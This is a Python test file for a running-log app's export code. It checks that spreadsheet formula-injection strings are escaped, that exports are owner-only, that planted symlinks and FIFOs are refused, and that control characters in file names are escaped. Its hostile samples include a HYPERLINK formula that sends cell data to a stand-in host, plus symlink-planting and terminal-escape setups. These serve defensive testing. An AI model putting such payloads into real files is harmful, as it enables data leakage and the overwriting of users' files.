"""Exports a spreadsheet cannot turn into formulas, written owner-only and never through a
planted symlink (issue 10: "Security and privacy", "Safe writing")."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from backstride.cli import main
from backstride.core import csv_codec as c
from backstride.core.models import HabitDay, PainEntry, Run, Shoe
from backstride.core.safe_write import WriteRefused, open_private_append, write_private
from backstride.store.database import open_store
from backstride.store.exchange import FILES, export_all, import_csv_files
from backstride.store.habits import import_habit_days, list_habit_days
from backstride.store.pain import import_pain_entries, list_pain_entries
from backstride.store.runs import import_runs, list_runs
from backstride.store.shoes import import_shoes, list_shoes

TODAY = date(2026, 6, 1)
START = datetime(2026, 5, 1, 7, 30, tzinfo=UTC)
# Each one a spreadsheet would run (or, for the quote, strip) if written raw.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'=already quoted by the runner",
    "'plain quote",
    "''two quotes",
]


def _fill(tmp_path: Path):  # type: ignore[no-untyped-def]
    store = open_store(tmp_path / "a")
    import_shoes(store, [Shoe(name=text.strip() or "x") for text in HOSTILE])
    import_pain_entries(
        store,
        [
            PainEntry(day=TODAY, intensity=3, medication=text, note=text[::-1] + text)
            for text in HOSTILE
        ],
    )
    import_runs(
        store,
        [
            Run(
                start=START.replace(minute=n),
                distance_m=5000.0,
                moving_time_s=1800.0,
                shoe=text.strip() or "x",
                note=text,
                source=text.strip() or "manual",
            )
            for n, text in enumerate(HOSTILE)
        ],
    )
    import_habit_days(
        store, [HabitDay(day=date(2026, 5, n + 1), note=text) for n, text in enumerate(HOSTILE)]
    )
    return store


def test_text_cells_that_start_a_formula_are_quoted_and_read_back_exactly(
    tmp_path: Path,
) -> None:
    store = _fill(tmp_path)
    export_all(store, tmp_path / "out", TODAY)
    for spec in FILES:
        with (tmp_path / "out" / spec.name).open(encoding="utf-8", newline="") as f:
            for row in list(csv.reader(f))[1:]:
                for cell in row:
                    assert not cell.startswith(c.FORMULA_START), (spec.name, cell)
    other = open_store(tmp_path / "b")
    import_csv_files(other, [tmp_path / "out" / s.name for s in FILES], TODAY, local_zone=UTC)
    assert [(e.medication, e.note) for e in list_pain_entries(other)] == [
        (e.medication, e.note) for e in list_pain_entries(store)
    ]
    assert [(r.shoe, r.note, r.source) for r in list_runs(other)] == [
        (r.shoe, r.note, r.source) for r in list_runs(store)
    ]
    assert [h.note for h in list_habit_days(other)] == [h.note for h in list_habit_days(store)]
    assert sorted(u.shoe.name for u in list_shoes(other)) == sorted(
        u.shoe.name for u in list_shoes(store)
    )


def test_escape_rule_is_its_own_inverse_and_leaves_numbers_alone() -> None:
    for text in [*HOSTILE, "", "plain", "a=b", " =1"]:
        assert c.unescape_cell(c.escape_cell(text)) == text
    assert c.escape_cell("=1") == "'=1" and c.escape_cell("'x") == "''x"
    table: c.Table[tuple[float, str]] = c.Table(
        columns=[
            c.Column("n", c.parse_optional_float, c.fmt_optional),
            c.Column("t", c.parse_text, c.fmt_optional),
        ],
        build=lambda v: (v["n"], v["t"]),
        cells=lambda r: list(r),
    )
    out = io.StringIO()
    c.write_table(table, [(-5.5, "-5.5")], out)
    assert out.getvalue().splitlines()[1] == "-5.5,'-5.5"  # the number stays a number
    assert c.read_table_text(table, out.getvalue(), "t.csv") == [(-5.5, "-5.5")]


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions and symlinks")
def test_exports_are_owner_only_and_never_written_through_a_planted_symlink(
    tmp_path: Path,
) -> None:
    store = _fill(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    (out / "pain.csv.part").symlink_to(victim)  # the old fixed temporary name
    (out / "runs.csv").symlink_to(victim)  # the destination itself
    export_all(store, out, TODAY)
    assert victim.read_text(encoding="utf-8") == "keep me"
    for spec in FILES:
        path = out / spec.name
        assert not path.is_symlink() and path.is_file()
        assert _mode(path) == 0o600, spec.name
    assert main(["--data-dir", str(tmp_path / "a"), "export", str(out / "all.json")]) == 0
    assert _mode(out / "all.json") == 0o600
    assert sorted(p.name for p in out.iterdir()) == sorted(
        ["all.json", "pain.csv.part", *(s.name for s in FILES)]
    )  # no temporary file left behind


def test_a_failed_write_keeps_the_old_file_and_leaves_no_temporary(tmp_path: Path) -> None:
    path = tmp_path / "pain.csv"
    path.write_text("old", encoding="utf-8")

    def fail(f: io.TextIOBase) -> None:
        f.write("half")
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        write_private(path, fail)
    assert path.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["pain.csv"]


def test_export_into_a_file_path_says_so_in_words(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    afile = tmp_path / "notafolder"
    afile.write_text("x", encoding="utf-8")
    for target in (afile, afile / "sub", afile / "all.json"):
        assert main(["--data-dir", str(tmp_path / "d"), "export", str(target)]) == 1
        err = capsys.readouterr().err
        assert "is a file, not a folder" in err and "Errno" not in err
    folder = tmp_path / "folder.json"
    folder.mkdir()
    assert main(["--data-dir", str(tmp_path / "d"), "export", str(folder)]) == 1
    err = capsys.readouterr().err
    assert "is a folder" in err and "Errno" not in err
    assert afile.read_text(encoding="utf-8") == "x"


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions and symlinks")
def test_log_file_is_owner_only_and_refuses_a_symlink_or_fifo(tmp_path: Path) -> None:
    log = tmp_path / "backstride.log"
    with open_private_append(log) as f:
        f.write("one\n")
    assert _mode(log) == 0o600
    log.chmod(0o644)  # as an older version left it
    with open_private_append(log) as f:
        f.write("two\n")
    assert _mode(log) == 0o600 and log.read_text(encoding="utf-8") == "one\ntwo\n"
    victim = tmp_path / "victim"
    victim.write_text("keep", encoding="utf-8")
    link = tmp_path / "link.log"
    link.symlink_to(victim)
    with pytest.raises(WriteRefused, match="symbolic link"):
        open_private_append(link)
    fifo = tmp_path / "fifo.log"
    os.mkfifo(fifo)
    with pytest.raises(OSError):  # refused at once, instead of waiting for a reader
        open_private_append(fifo)
    assert victim.read_text(encoding="utf-8") == "keep"


def test_file_names_are_printed_with_control_characters_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "a\nb\x1b[31m.json"
    assert main(["--data-dir", str(tmp_path / "d"), "export", str(target)]) == 0
    assert main(["--data-dir", str(tmp_path / "e"), "import", str(target)]) == 0
    out = capsys.readouterr().out
    assert out.count("\n") == 2 and "\x1b" not in out and "a\\nb\\x1b[31m.json" in out
